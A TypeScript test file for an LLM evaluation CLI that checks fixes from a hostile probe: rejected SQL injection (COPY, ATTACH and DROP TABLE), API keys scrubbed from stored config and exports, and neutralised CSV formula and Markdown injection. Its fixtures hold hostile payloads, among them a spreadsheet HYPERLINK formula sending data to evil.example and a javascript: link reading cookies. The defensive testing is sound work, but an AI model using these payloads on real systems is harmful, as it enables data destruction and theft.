import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { marked } from 'marked';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RUN_ID_PATTERN } from '../../src/core/run-id.ts';
import { startSim, type SimServer } from '../../src/sim/server.ts';
import { openStore } from '../../src/store/store.ts';
import { rows, sampleHead, writeConfig, ROOT } from '../fixtures/reliability/harness.ts';
import { runCli, tempDir, type CliResult } from './cli.ts';
import { startRecordingProxy, type RecordingProxy } from './recording-proxy.ts';

/*
 * The findings of a hostile probe of the landed code (issue 16), each reproduced through the real CLI
 * against the sim, and each now refused or neutralised. The numbers are the issue's.
 */

let dir: string;
let log: string;

const sim = ['--sim', '--sim-time-scale', '0'];

/** One clear line on stderr, exit 2: never a stack trace or an "unexpected error". */
function refused(result: CliResult, message: RegExp): void {
  expect(result.stderr, result.stderr).not.toMatch(/unexpected error|\n\s+at /);
  expect(result.code, result.stderr).toBe(2);
  expect(result.stderr.trim().split('\n'), result.stderr).toHaveLength(1);
  expect(result.stderr).toMatch(message);
}

/** The harness's reliability config with some lines swapped: a policy, a database, a dataset. */
function configWith(name: string, edit: (text: string) => string, options: Parameters<typeof writeConfig>[1] = {}): string {
  const base = writeConfig(dir, options);
  const path = join(dir, `${name}.yaml`);
  writeFileSync(path, edit(readFileSync(base, 'utf8')));
  return path;
}

beforeAll(() => {
  dir = tempDir('hybrid-eval-hostile-probe-');
  log = sampleHead(dir, 60);
});

describe('1. dataset.sql runs exactly one read-only SELECT, and never reaches the results database', () => {
  let logsDb: string;
  let resultsDb: string;

  beforeAll(async () => {
    logsDb = join(dir, 'logs.duckdb');
    const instance = await DuckDBInstance.create(logsDb);
    const connection = await instance.connect();
    await connection.run(`CREATE TABLE logs AS SELECT * FROM read_json_auto('${log}')`);
    connection.closeSync();
    instance.closeSync();
    // A results database with a run and 62 stored human ratings: the history the gate compares against.
    resultsDb = join(dir, 'victim.duckdb');
    const first = await runCli(['replay', '-c', writeConfig(dir), '--dataset', log, ...sim, '--db', resultsDb, '--run-id', 'rated', '--limit', '31']);
    expect(first.code, first.stderr).toBe(0);
    const ids = (await rows<{ query_id: string }>(resultsDb, "SELECT query_id FROM queries WHERE run_id = 'rated' ORDER BY query_id")).map((row) => row.query_id);
    expect(ids).toHaveLength(31);
    const instance2 = await DuckDBInstance.create(resultsDb);
    const writer = await instance2.connect();
    for (const [index, id] of ids.entries()) {
      for (const role of ['candidate', 'baseline']) {
        await writer.run(`INSERT INTO human_ratings VALUES ('rated', '${id}', 'ann', '${role}', ${1 + (index % 5)}, NULL, now(), 'import')`);
      }
    }
    writer.closeSync();
    instance2.closeSync();
    expect(await rows(resultsDb, 'SELECT count(*)::INTEGER AS n FROM human_ratings')).toEqual([{ n: 62 }]);
  }, 120_000);

  const sqlConfig = (name: string, sql: string): string =>
    configWith(name, (text) => text.replace(/dataset:\n {2}path: .*\n/, `dataset:\n  path: ${logsDb}\n  sql: ${JSON.stringify(sql)}\n`));

  it("refuses the issue's payloads in one line, exit 2, before any run: no file written, no rating lost", async () => {
    const payloads: Array<[string, RegExp]> = [
      ["SELECT * FROM logs; COPY (SELECT 'pwned') TO 'pwned.csv'", /dataset\.sql .*exactly one SELECT statement, got 2 statements/],
      [`SELECT * FROM logs; ATTACH '${resultsDb}' AS victim; DROP TABLE victim.human_ratings`, /got 3 statements/],
      ["COPY (SELECT 'pwned') TO 'pwned.csv'", /dataset\.sql/],
      [`ATTACH '${resultsDb}' AS victim`, /dataset\.sql/],
      [`SELECT * FROM read_csv('${join(dir, 'head.jsonl')}')`, /file system operations are disabled/],
    ];
    for (const [index, [sql, message]] of payloads.entries()) {
      const db = join(dir, `sql-${index}.duckdb`);
      // cwd = the temp folder, where a relative COPY would land.
      const result = await runCli(['replay', '-c', sqlConfig(`sql-${index}`, sql), ...sim, '--db', db, '--run-id', `sql-${index}`], { cwd: dir });
      refused(result, message);
      expect(existsSync(db), sql).toBe(false);
    }
    expect(existsSync(join(dir, 'pwned.csv'))).toBe(false);
    expect(existsSync(join(ROOT, 'pwned.csv'))).toBe(false);
    // The dataset cannot be the results database itself, not even to read.
    const self = configWith('self', (text) => text.replace(/dataset:\n {2}path: .*\n/, `dataset:\n  path: ${resultsDb}\n  sql: "SELECT * FROM human_ratings"\n`));
    refused(await runCli(['replay', '-c', self, ...sim, '--db', resultsDb, '--run-id', 'self']), /is the results database/);

    expect(await rows(resultsDb, 'SELECT count(*)::INTEGER AS n FROM human_ratings')).toEqual([{ n: 62 }]);
    const agreement = await runCli(['spotcheck', 'agreement', '--run', 'rated', '--db', resultsDb, '--json']);
    expect(agreement.stderr).toBe('');
    expect(agreement.code).toBe(0);
  }, 180_000);

  it('replays a WITH ... SELECT', async () => {
    const db = join(dir, 'sql-ok.duckdb');
    const result = await runCli([
      'replay', '-c', sqlConfig('sql-ok', "WITH simple AS (SELECT * FROM logs WHERE tier = 'simple') SELECT * FROM simple -- the FAQ share"),
      ...sim, '--db', db, '--run-id', 'sql-ok',
    ]);
    expect(result.code, result.stderr).toBe(0);
    const expected = readFileSync(log, 'utf8').trim().split('\n').filter((line) => JSON.parse(line).tier === 'simple').length;
    expect(await rows(db, "SELECT count(*)::INTEGER AS n FROM queries WHERE run_id = 'sql-ok'")).toEqual([{ n: expected }]);
  }, 120_000);
});

describe('2. --resume refuses a config that defines a different run', () => {
  const router = (text: string): string => text.replace('  policy: oracle\n', `  policy: router\n  router: { model: ${join(ROOT, 'models/router')} }\n`);
  const fixed = (text: string): string => text.replace('  policy: oracle\n', '  policy: fixed\n  fixed_tier: simple\n');

  it('names what differs, exit 2, nothing written; --force-resume goes on and records the change on the run', async () => {
    const db = join(dir, 'resume.duckdb');
    const routerConfig = configWith('resume-router', router);
    // An edited copy of the rubric: the same file name, other content.
    const rubric = join(dir, 'edited', 'support-single.yaml');
    mkdirSync(join(dir, 'edited'), { recursive: true });
    writeFileSync(rubric, `${readFileSync(join(ROOT, 'judges/support-single.yaml'), 'utf8')}\n# edited after the run started\n`);
    const fixedConfig = configWith('resume-fixed', (text) => fixed(text).replace(join(ROOT, 'judges/support-single.yaml'), rubric));
    const args = (config: string, limit: number, extra: string[] = []): string[] =>
      ['replay', '-c', config, '--dataset', log, ...sim, '--db', db, '--run-id', 'mixed', '--limit', String(limit), ...extra];

    const first = await runCli(args(routerConfig, 20));
    expect(first.code, first.stderr).toBe(0);
    const changed = await runCli(args(fixedConfig, 40, ['--resume']));
    refused(
      changed,
      /^hybrid-eval: run mixed was made with a different config: routing policy \(was router .*\(version [0-9a-f]{12}\), now fixed \(simple\)\); routing settings \(changed\); endpoints \(changed\); rubric \((was .*judges\/support-single\.yaml \(sha256:\w+\), now .*edited\/support-single\.yaml \(sha256:\w+\)|changed)\)\. Resume with the config it was made with, or pass --force-resume/,
    );
    expect(await rows(db, "SELECT policy, count(*)::INTEGER AS n FROM routes WHERE run_id = 'mixed' GROUP BY policy")).toEqual([{ policy: 'router', n: 20 }]);

    // The same config resumes (the control): 20 more, all routed by the router.
    const same = await runCli(args(routerConfig, 40, ['--resume']));
    expect(same.code, same.stderr).toBe(0);
    expect(await rows(db, "SELECT policy, count(*)::INTEGER AS n FROM routes WHERE run_id = 'mixed' GROUP BY policy")).toEqual([{ policy: 'router', n: 40 }]);

    const forced = await runCli(args(fixedConfig, 60, ['--force-resume']));
    expect(forced.code, forced.stderr).toBe(0);
    expect(await rows(db, "SELECT policy, count(*)::INTEGER AS n FROM routes WHERE run_id = 'mixed' GROUP BY policy ORDER BY policy")).toEqual([
      { policy: 'fixed', n: 20 },
      { policy: 'router', n: 40 },
    ]);
    const [record] = await rows<{ differences: string }>(db, "SELECT CAST(differences AS VARCHAR) AS differences FROM run_forced_resumes WHERE run_id = 'mixed'");
    expect(JSON.parse(record!.differences)).toEqual([
      expect.stringMatching(/^routing policy \(was router/),
      'routing settings (changed)',
      'endpoints (changed)',
      expect.stringMatching(/^rubric \(/),
    ]);
    const [run] = await rows<{ notes: string }>(db, "SELECT notes FROM runs WHERE run_id = 'mixed'");
    expect(run!.notes).toMatch(/force-resumed \S+ with a different routing policy, routing settings, endpoints, rubric$/);
    // The changed config is now the run's: resuming with it again needs no force.
    const again = await runCli(args(fixedConfig, 60, ['--resume']));
    expect(again.code, again.stderr).toBe(0);
  }, 240_000);
});

describe("3. gate -c uses the config's plan and results_dir, and says which plan it used", () => {
  it('takes both from the config, a flag wins over it, and reports go where the config says', async () => {
    const db = join(dir, 'gate.duckdb');
    const plan = join(dir, 'team-plan.yaml');
    writeFileSync(plan, 'name: team-plan\nthresholds:\n  min_quality: 1\n  quality_statistic: mean\n  min_scored: 5\n');
    const results = join(dir, 'team-results');
    const config = configWith('gate', (text) =>
      text.replace(/^database: .*$/m, `database: ${db}`).replace(/^results_dir: .*$/m, `results_dir: ${results}`).replace(/^plan: .*$/m, `plan: ${plan}`),
    );
    const replay = await runCli(['replay', '-c', config, '--dataset', log, ...sim, '--run-id', 'gated', '--limit', '20']);
    expect(replay.code, replay.stderr).toBe(0);

    const gate = await runCli(['gate', '--run', 'gated', '-c', config], { cwd: dir });
    expect([0, 1, 3], gate.stderr).toContain(gate.code);
    expect(gate.stdout).toMatch(/ for run gated \(plan team-plan, step /);
    expect(gate.stdout).toContain(`plan file: ${plan} (plan in ${config})`);
    expect(existsSync(join(results, 'gated', 'report.md'))).toBe(true);
    expect(existsSync(join(dir, 'results', 'gated'))).toBe(false);

    const flagged = await runCli(['gate', '--run', 'gated', '-c', config, '--plan', join(ROOT, 'suites/rollout.yaml'), '--results', join(dir, 'flag-results'), '--json'], { cwd: dir });
    expect([0, 1, 3], flagged.stderr).toContain(flagged.code);
    expect(JSON.parse(flagged.stdout)).toMatchObject({ plan: 'northwind-rollout', plan_file: join(ROOT, 'suites/rollout.yaml'), plan_from: '--plan' });
    expect(existsSync(join(dir, 'flag-results', 'gated', 'report.json'))).toBe(true);

    const notebooks = await runCli(['notebooks', join(ROOT, 'notebooks', readdirSync(join(ROOT, 'notebooks')).find((file) => file.endsWith('.md'))!), '--run', 'gated', '-c', config], { cwd: dir });
    expect(notebooks.stdout).toContain(join(results, 'gated', 'notebooks'));
  }, 180_000);
});

describe('4. a key inside a URL, or anywhere in the config, is scrubbed from stored config, errors, logs and exports', () => {
  let upstream: SimServer;
  let proxy: RecordingProxy;
  const GATEWAY_KEY = `gw-PLANTED-${randomBytes(12).toString('hex')}`;
  const USER_KEY = `pw-PLANTED-${randomBytes(12).toString('hex')}`;
  const ENV_KEY = `sk-PLANTED-${randomBytes(12).toString('hex')}`;
  const planted = [GATEWAY_KEY, USER_KEY, ENV_KEY];

  beforeAll(async () => {
    upstream = await startSim({ port: 0, timeScale: 0 });
    proxy = await startRecordingProxy(upstream.url);
  });
  afterAll(async () => {
    await proxy?.close();
    await upstream?.close();
  });

  function leaks(root: string, outputs: CliResult[]): string[] {
    const found: string[] = [];
    const files = readdirSync(root, { recursive: true, encoding: 'utf8' }).map((name) => join(root, name)).filter((path) => statSync(path).isFile());
    for (const file of files) for (const key of planted) if (readFileSync(file).includes(key.slice(-24))) found.push(`${file} holds ${key.slice(0, 11)}`);
    outputs.forEach((output, index) => {
      for (const key of planted) if (`${output.stdout}${output.stderr}`.includes(key.slice(-24))) found.push(`command ${index} printed ${key.slice(0, 11)}`);
    });
    return found;
  }

  it('an Azure-style ?api_key= URL and a ${KEY} in the system prompt: on the wire, but in no stored config, export, report or output', async () => {
    const root = join(dir, 'secrets');
    const db = join(root, 'results.duckdb');
    const env = { GATEWAY_KEY, OPENAI_API_KEY: ENV_KEY };
    const config = configWith(
      'secrets',
      (text) =>
        text
          .replace(/^ {4}base_url: .*$/gm, `    base_url: ${proxy.url}?api-version=2024-06-01&api_key=\${GATEWAY_KEY}`)
          .replace(/^(system_prompt_file: .*)$/m, 'system_prompt: "Answer briefly. Internal ref ${OPENAI_API_KEY}."')
          .replace(/( {4}model: gpt-4\n)/, '$1    api_key_env: OPENAI_API_KEY\n')
          .replace(/^database: .*$/m, `database: ${db}`)
          .replace(/^results_dir: .*$/m, `results_dir: ${join(root, 'results')}`),
      { timeoutMs: 60_000 },
    );
    const outputs: CliResult[] = [];
    const replay = await runCli(['replay', '-c', config, '--dataset', log, '--run-id', 'sec', '--limit', '10'], { env });
    outputs.push(replay);
    expect(replay.code, replay.stderr).toBe(0);
    // The control: the key really was in play, in the query string of every chat call.
    const chats = proxy.requests.filter((request) => request.path.includes('/chat/completions'));
    expect(chats.length).toBeGreaterThanOrEqual(20);
    expect(chats.every((request) => request.path.endsWith(`/v1/chat/completions?api-version=2024-06-01&api_key=${GATEWAY_KEY}`))).toBe(true);
    expect(chats.some((request) => request.body.includes(ENV_KEY))).toBe(true);

    outputs.push(await runCli(['gate', '--run', 'sec', '-c', config], { env }));
    for (const format of ['csv', 'parquet', 'arrow']) {
      const exported = await runCli(['export', '--run', 'sec', '--format', format, '--out', join(root, 'export', format), '--db', db], { env });
      outputs.push(exported);
      expect(exported.code, exported.stderr).toBe(0);
    }
    outputs.push(await runCli(['runs', '--db', db, '--json'], { env }));
    const [stored] = await rows<{ config_json: string }>(db, "SELECT CAST(config_json AS VARCHAR) AS config_json FROM runs WHERE run_id = 'sec'");
    const storedConfig = JSON.parse(stored!.config_json);
    expect(storedConfig.endpoints.gpt4.base_url).toBe(`${proxy.url}?api-version=redacted&api_key=redacted`);
    expect(storedConfig.system_prompt).toBe('Answer briefly. Internal ref [redacted].');
    // Every text column of every table, as DuckDB compresses strings on disk.
    const store = await openStore(db, { readOnly: true });
    try {
      const columns = await store.all<{ table_name: string; column_name: string }>("SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'main'");
      expect(columns.length).toBeGreaterThan(50);
      for (const { table_name, column_name } of columns) {
        const [row] = await store.all<{ n: number }>(
          `SELECT count(*)::INTEGER AS n FROM "${table_name}" WHERE ${planted.map(() => `CAST("${column_name}" AS VARCHAR) LIKE '%' || ? || '%'`).join(' OR ')}`,
          planted,
        );
        expect(row!.n, `${table_name}.${column_name}`).toBe(0);
      }
    } finally {
      await store.close();
    }
    expect(readFileSync(join(root, 'export', 'csv', 'runs.csv'), 'utf8')).toContain('api_key=redacted');
    expect(leaks(root, outputs)).toEqual([]);
  }, 400_000);

  it('loadtest against an Azure-style ?api_key= URL: on the wire, but not in the stored load test, its chart or its output', async () => {
    const root = join(dir, 'loadtest-secrets');
    mkdirSync(root, { recursive: true });
    const db = join(root, 'results.duckdb');
    const config = configWith('loadtest-secrets', (text) =>
      text
        .replace(/^ {4}base_url: .*$/gm, `    base_url: ${proxy.url}?api-version=2024-06-01&api_key=\${GATEWAY_KEY}`)
        .replace(/^database: .*$/m, `database: ${db}`)
        .replace(/^results_dir: .*$/m, `results_dir: ${join(root, 'results')}`),
    );
    const before = proxy.requests.length;
    const outputs = [await runCli(['loadtest', '-c', config, '--endpoint', 'llama', '--dataset', log, '--concurrency', '1', '--duration', '1', '--warmup', '0', '--json'], { env: { GATEWAY_KEY } })];
    expect(outputs[0]!.code, outputs[0]!.stderr).toBe(0);
    // The control: the probe and the load went to the gateway with the key in the query string.
    const sent = proxy.requests.slice(before);
    expect(sent.some((request) => request.path === `/v1/models?api-version=2024-06-01&api_key=${GATEWAY_KEY}`)).toBe(true);
    expect(sent.filter((request) => request.path === `/v1/chat/completions?api-version=2024-06-01&api_key=${GATEWAY_KEY}`).length).toBeGreaterThan(1);
    outputs.push(await runCli(['sql', '--db', db, '--format', 'csv', 'SELECT * FROM loadtests'], { env: { GATEWAY_KEY } }));
    expect(outputs[1]!.code, outputs[1]!.stderr).toBe(0);
    expect(outputs[1]!.stdout).toContain('api_key=redacted');
    expect(readdirSync(join(root, 'results')).some((name) => name.endsWith('.html'))).toBe(true);
    expect(leaks(root, outputs)).toEqual([]);
  }, 180_000);

  it('a key in the user part of a URL: the preflight error prints the URL without it', async () => {
    const config = configWith('userinfo', (text) => text.replace(/^ {4}base_url: .*$/gm, '    base_url: http://svc:${USER_KEY}@127.0.0.1:9/v1'));
    const db = join(dir, 'userinfo.duckdb');
    const result = await runCli(['replay', '-c', config, '--dataset', log, '--db', db, '--run-id', 'userinfo'], { env: { USER_KEY } });
    refused(result, /endpoint "\w+" unreachable at http:\/\/redacted:redacted@127\.0\.0\.1:9\/v1/);
    expect(leaks(join(dir, 'secrets'), [result])).toEqual([]);
    expect(existsSync(db)).toBe(false);
  }, 60_000);
});

describe('5. CSV formula injection and Markdown injection from query text', () => {
  const HOSTILE: Array<{ query: string; tier: string }> = [
    { query: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for your refund")', tier: 'simple' },
    { query: '+1-555-0100 call me back', tier: 'simple' },
    { query: '-2+3 is what the invoice says', tier: 'medium' },
    { query: '@SUM(1+1) where is my order', tier: 'medium' },
    { query: '![](http://evil.example/pixel.png) where is my order', tier: 'complex' },
    { query: '[Click here for a refund](javascript:alert(document.cookie))', tier: 'complex' },
  ];

  it('export --format csv and spotcheck export neutralise formulas; report.md shows links and images as text', async () => {
    const dataset = join(dir, 'formulas.jsonl');
    writeFileSync(dataset, HOSTILE.map((item, index) => JSON.stringify({ query_id: `f${index}`, ...item })).join('\n') + '\n');
    const db = join(dir, 'formulas.duckdb');
    const replay = await runCli(['replay', '-c', writeConfig(dir), '--dataset', dataset, ...sim, '--db', db, '--run-id', 'formulas']);
    expect(replay.code, replay.stderr).toBe(0);

    const exported = await runCli(['export', '--run', 'formulas', '--format', 'csv', '--out', join(dir, 'formulas-csv'), '--db', db, '--unredacted']);
    expect(exported.code, exported.stderr).toBe(0);
    const sample = await runCli(['spotcheck', 'sample', '--run', 'formulas', '--db', db, '--n', '6']);
    expect(sample.code, sample.stderr).toBe(0);
    const blind = await runCli(['spotcheck', 'export', '--run', 'formulas', '--db', db, '--out', join(dir, 'formulas-blind.csv')]);
    expect(blind.code, blind.stderr).toBe(0);

    // Every cell of every CSV written, parsed as a spreadsheet would read it.
    const { parse } = await import('csv-parse/sync');
    const files = [...readdirSync(join(dir, 'formulas-csv')).map((name) => join(dir, 'formulas-csv', name)), join(dir, 'formulas-blind.csv')];
    let cells = 0;
    for (const file of files) {
      const records = parse(readFileSync(file, 'utf8'), { relax_column_count: true }) as string[][];
      for (const cell of records.flat()) {
        cells++;
        if (/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?(e[-+]?\d+)?$/i.test(cell))) throw new Error(`${file}: a cell a spreadsheet would run: ${cell}`);
      }
    }
    expect(cells).toBeGreaterThan(100);
    const queries = parse(readFileSync(join(dir, 'formulas-csv', 'queries.csv'), 'utf8'), { columns: true }) as Array<{ text: string }>;
    expect(queries.map((row) => row.text).sort()).toEqual(HOSTILE.map((item) => (/^[=+\-@]/.test(item.query) ? `'${item.query}` : item.query)).sort());

    const gate = await runCli(['gate', '--run', 'formulas', '--db', db, '--results', join(dir, 'formulas-results'), '--plan', join(ROOT, 'suites/rollout.yaml')]);
    expect([0, 1, 3], gate.stderr).toContain(gate.code);
    const markdown = readFileSync(join(dir, 'formulas-results', 'formulas', 'report.md'), 'utf8');
    expect(markdown).toContain('pixel.png');
    expect(markdown).toContain('javascript');
    const html = await marked.parse(markdown, { gfm: true, async: true });
    expect(html).not.toMatch(/<img\b/);
    expect(html).not.toMatch(/<a\b/);
    expect(html).toContain('![](http://evil.example/pixel.png) where is my order');
  }, 180_000);
});

describe('6. a bad fault spec is one line and exit 2', () => {
  it('replay --sim-faults and sim --faults', async () => {
    const db = join(dir, 'faults.duckdb');
    for (const spec of ['500=abc', 'boom=0.1', 'down=gpt-5', '500=0.6,429=0.6', 'timeout']) {
      refused(await runCli(['replay', '-c', writeConfig(dir), '--dataset', log, ...sim, '--db', db, '--run-id', 'faults', '--sim-faults', spec]), /--sim-faults: fault spec/);
      refused(await runCli(['sim', '--port', '0', '--faults', spec]), /--faults: fault spec/);
    }
    refused(await runCli(['replay', '-c', writeConfig(dir), '--dataset', log, '--db', db, '--run-id', 'faults', '--sim-faults', '500=0.1']), /--sim-faults needs --sim/);
    expect(existsSync(db)).toBe(false);
  }, 120_000);
});

describe('7. run ids: a documented alphabet and length, and one report folder per run', () => {
  it('refuses the empty id, a newline, a slash, a leading dot and a 65-character id; generated ids pass', async () => {
    const db = join(dir, 'ids.duckdb');
    for (const id of ['', 'a\nb', 'a/b', '..', '.hidden', 'x'.repeat(65), 'run id']) {
      refused(await runCli(['replay', '-c', writeConfig(dir), '--dataset', log, ...sim, '--db', db, '--run-id', id, '--limit', '2']), /--run-id ".*" is not a valid run id: 1-64 characters/);
    }
    expect(existsSync(db)).toBe(false);
    const generated = await runCli(['replay', '-c', writeConfig(dir), '--dataset', log, ...sim, '--db', db, '--limit', '2']);
    expect(generated.code, generated.stderr).toBe(0);
    const runId = /^run (\S+):/.exec(generated.stdout)![1]!;
    expect(runId).toMatch(/^run-\d{8}-\d{6}-[0-9a-f]{4}$/);
    expect(runId).toMatch(RUN_ID_PATTERN);
    const kept = await runCli(['replay', '-c', writeConfig(dir), '--dataset', log, ...sim, '--db', db, '--run-id', 'a_b', '--limit', '2']);
    expect(kept.code, kept.stderr).toBe(0);
    const listing = await runCli(['runs', '--db', db]);
    expect(listing.stdout.trim().split('\n').filter((line) => line.includes(runId) || line.includes('a_b'))).toHaveLength(2);
    const gate = await runCli(['gate', '--run', 'a_b', '--db', db, '--results', join(dir, 'ids-results'), '--plan', join(ROOT, 'suites/rollout.yaml')]);
    expect([0, 1, 3], gate.stderr).toContain(gate.code);
    expect(readdirSync(join(dir, 'ids-results'))).toEqual(['a_b']);
  }, 180_000);
});

describe('9. a router folder with several files missing names all of them, in a fixed order', () => {
  it('replay with a router folder that does not exist', async () => {
    const missing = join(dir, 'no-router');
    const config = configWith('no-router', (text) => text.replace('  policy: oracle\n', `  policy: router\n  router: { model: ${missing} }\n`));
    for (let attempt = 0; attempt < 3; attempt++) {
      refused(
        await runCli(['replay', '-c', config, '--dataset', log, ...sim, '--db', join(dir, 'no-router.duckdb'), '--run-id', 'no-router']),
        new RegExp(`router model folder ${missing}: missing model\\.onnx, tokenizer\\.json, config\\.json\n$`),
      );
    }
  }, 120_000);
});
